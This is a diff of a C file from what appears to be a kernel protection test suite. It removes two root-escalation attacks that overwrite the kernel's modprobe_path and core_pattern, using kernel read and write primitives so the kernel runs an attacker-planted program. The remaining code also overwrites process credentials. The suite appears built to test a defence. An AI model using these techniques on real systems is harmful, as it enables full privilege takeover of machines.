@@ -3,21 +3,13 @@
  * Attacks that leave page tables alone. They land whether tables are
  * protected or not, and stay here to say so.
  */
-#include <fcntl.h>
-#include <signal.h>
-#include <stdio.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <sys/resource.h>
-#include <sys/sendfile.h>
-#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include "attack.h"
-#include "files.h"
 #include "list.h"
-#include "rooted.h"
 
 #define CRED_IDS	8	/* uid, gid, suid, sgid, euid, egid, fsuid, fsgid */
 
@@ -73,101 +65,6 @@ enum outcome live_cred(void)
 		return lost("store gave %d, uid=%d", err, getuid());
 	return won("own struct cred overwritten: uid=%d became uid=%d euid=%d", uid,
 		   getuid(), geteuid());
-}
-
-static enum outcome judge_proof(int err)
-{
-	char proof[256];
-	int i;
-
-	for (i = 0; i < 50; i++) {
-		if (file_read(ROOTED_PROOF, proof, sizeof(proof)) > 0)
-			return won("the kernel ran %s for uid %d: %s", ROOTED_PROGRAM, getuid(), proof);
-		usleep(20000);
-	}
-	return lost("store gave %d, %s was not run", err, ROOTED_PROGRAM);
-}
-
-/* What the kernel will run belongs to the attacker: a copy of this program. */
-static bool plant_program(void)
-{
-	int from = open("/proc/self/exe", O_RDONLY);
-	int to;
-	ssize_t n;
-
-	unlink(ROOTED_PROGRAM);
-	unlink(ROOTED_PROOF);
-	to = open(ROOTED_PROGRAM, O_WRONLY | O_CREAT | O_EXCL, 0755);
-	if (from < 0 || to < 0)
-		return false;
-	do {
-		n = sendfile(to, from, NULL, 1 << 20);
-	} while (n > 0);
-	close(from);
-	return !close(to) && !n;
-}
-
-static void run_in_child(void (*function)(void))
-{
-	pid_t pid = fork();
-
-	if (!pid) {
-		function();
-		_exit(0);
-	}
-	waitpid(pid, NULL, 0);
-}
-
-static void exec_unknown_format(void)
-{
-	const char *path = "/tmp/unknown-format";
-	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
-
-	if (write(fd, "\xff\xff\xff\xff", 4) != 4)
-		_exit(1);
-	close(fd);
-	execl(path, path, (char *)NULL);
-}
-
-static void dump_core(void)
-{
-	struct rlimit unlimited = { RLIM_INFINITY, RLIM_INFINITY };
-
-	setrlimit(RLIMIT_CORE, &unlimited);
-	signal(SIGQUIT, SIG_DFL);
-	raise(SIGQUIT);
-}
-
-static enum outcome change_helper_path(const char *symbol, const char *option,
-				       const char *path, void (*trigger)(void))
-{
-	uint64_t addr = ksymbol(symbol);
-	enum outcome outcome;
-	char old[64];
-	int err;
-
-	if (!addr)
-		return skipped("kernel built without %s", option);
-	if (!plant_program())
-		return broken("no program to be run");
-	kread(addr, old, sizeof(old));
-	err = kwrite(addr, path, strlen(path) + 1);
-	run_in_child(trigger);
-	outcome = judge_proof(err);
-	kwrite(addr, old, sizeof(old));
-	return outcome;
-}
-
-enum outcome modprobe_path(void)
-{
-	return change_helper_path("modprobe_path", "CONFIG_MODULES", ROOTED_PROGRAM,
-				  exec_unknown_format);
-}
-
-enum outcome core_pattern(void)
-{
-	return change_helper_path("core_pattern", "CONFIG_COREDUMP", "|" ROOTED_PROGRAM,
-				  dump_core);
 }
 
 /*
